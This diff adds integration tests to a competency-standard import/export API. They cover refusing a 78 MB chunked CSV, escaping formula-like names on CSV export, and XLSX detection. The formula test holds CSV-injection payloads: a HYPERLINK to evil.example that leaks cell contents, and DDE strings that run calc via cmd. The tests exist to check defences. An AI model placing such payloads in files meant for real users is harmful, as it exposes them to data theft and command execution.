@@ -454,6 +454,117 @@ class CompetencyIT extends OnPayaraMicro {
                 .extracting(c -> c.getString("name")).contains("Работа с обращениями граждан: ёмко и в срок");
     }
 
+    @Test
+    @Order(18)
+    void a_78_megabyte_csv_streamed_without_a_length_is_refused_with_413_at_the_import_limit() throws Exception {
+        long size = 78L * 1024 * 1024;
+        byte[] row = "INDICATOR,,A1,Отвечает на обращения граждан в установленный срок,,,1\n"
+                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
+        java.io.InputStream generated = new java.io.InputStream() {
+            private long position;
+
+            @Override
+            public int read() {
+                return position < size ? row[(int) (position++ % row.length)] & 0xFF : -1;
+            }
+
+            @Override
+            public int read(byte[] b, int off, int len) {
+                if (position >= size) {
+                    return -1;
+                }
+                int n = (int) Math.min(len, size - position);
+                for (int i = 0; i < n; i++) {
+                    b[off + i] = (byte) read();
+                }
+                return n;
+            }
+        };
+        var request = java.net.http.HttpRequest.newBuilder(base.resolve(
+                        "api/v1/competency/import?format=csv&standard=TEST-HUGE&title=Huge"))
+                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
+                        "methodologist:demo12345".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
+                .header("Content-Type", "text/csv").header("Accept", "application/json")
+                .POST(java.net.http.HttpRequest.BodyPublishers.ofInputStream(() -> generated)) // chunked: no length
+                .build();
+        long started = System.nanoTime();
+        var response = java.net.http.HttpClient.newHttpClient().send(request,
+                java.net.http.HttpResponse.BodyHandlers.ofString());
+        System.out.printf("78 MB CSV: %d after %d ms%n", response.statusCode(), (System.nanoTime() - started) / 1_000_000);
+
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
+        assertThat(response.body()).contains("PAYLOAD_TOO_LARGE");
+        assertThat(Api.as(base, "methodologist").get("api/v1/competency/standards/TEST-HUGE/versions").array())
+                .isEmpty();
+    }
+
+    @Test
+    @Order(19)
+    void names_that_look_like_formulas_are_exported_as_text_and_imported_back_unchanged() {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")";
+        String dde = "=cmd|' /C calc'!A0";
+        String sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+        String csv = "record;code;parent;name;description;kind;level\n"
+                + "SCALE;1;;Базовый;Знает основы;;\n"
+                + "AREA;FORM;;\"" + hyperlink.replace("\"", "\"\"") + "\";;;\n"
+                + "COMPETENCY;FORM-01;FORM;" + dde + ";" + sum + ";PROFESSIONAL;\n";
+        Api methodologist = Api.as(base, "methodologist");
+        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA"
+                + "&title=Formula", csv.getBytes(java.nio.charset.Charset.forName("windows-1251")), "text/csv");
+        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
+        int id = imported.json().getInt("id");
+
+        String exported = methodologist.getAny("api/v1/competency/versions/" + id + "/export?format=csv").body();
+
+        assertThat(exported).contains("'" + dde, "'" + sum).contains("\"'=HYPERLINK(");
+        assertThat(exported.lines()).noneMatch(line -> line.contains(",=") || line.contains(",@")
+                || line.contains(",\"="));
+        Api.Reply again = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA-2"
+                + "&title=Formula", exported.getBytes(java.nio.charset.StandardCharsets.UTF_8), "text/csv");
+        assertThat(again.status()).as(again.toString()).isEqualTo(201);
+        assertThat(methodologist.get("api/v1/competency/versions/" + id + "/compare/" + again.json().getInt("id"))
+                .array()).as("the re-imported export is the same framework").isEmpty();
+        JsonObject area = methodologist.get("api/v1/competency/versions/" + again.json().getInt("id")).json()
+                .getJsonArray("areas").getJsonObject(0);
+        assertThat(area.getString("name")).isEqualTo(hyperlink);
+    }
+
+    @Test
+    @Order(20)
+    void the_format_is_judged_by_the_content_an_xlsx_workbook_imports_and_a_mismatching_format_is_named()
+            throws Exception {
+        byte[] xlsx;
+        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook();
+                var out = new java.io.ByteArrayOutputStream()) {
+            var sheet = book.createSheet("Стандарт");
+            String[][] rows = {{"record", "code", "parent", "name", "description", "kind", "level"},
+                    {"SCALE", "1", "", "Базовый", "Знает основы", "", ""},
+                    {"AREA", "XL", "", "Область из Excel", "", "", ""},
+                    {"COMPETENCY", "XL-01", "XL", "Ведение реестров", "", "PROFESSIONAL", ""},
+                    {"INDICATOR", "", "XL-01", "Вносит записи без ошибок", "", "", "1"}};
+            for (int r = 0; r < rows.length; r++) {
+                var row = sheet.createRow(r);
+                for (int c = 0; c < rows[r].length; c++) {
+                    row.createCell(c).setCellValue(rows[r][c]);
+                }
+            }
+            book.write(out);
+            xlsx = out.toByteArray();
+        }
+        Api methodologist = Api.as(base, "methodologist");
+
+        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-XLSX"
+                + "&title=Excel", xlsx, "application/octet-stream");
+        Api.Reply mismatch = methodologist.sendBytes("POST", "api/v1/competency/import?format=case&standard=TEST-XLSX2"
+                + "&title=Excel", xlsx, "application/json");
+
+        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
+        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + imported.json().getInt("id"))
+                .json())).extracting(c -> c.getString("name")).containsExactly("Ведение реестров");
+        assertThat(mismatch.status()).as(mismatch.toString()).isEqualTo(400);
+        assertThat(errors(mismatch)).singleElement().asString().startsWith("format: format=case was asked for");
+    }
+
     /** A small standard's CASE package under a new standard code: the CSV of order 12 exported as CASE. */
     private JsonObject caseExport(String standardCode) {
         Api methodologist = Api.as(base, "methodologist");
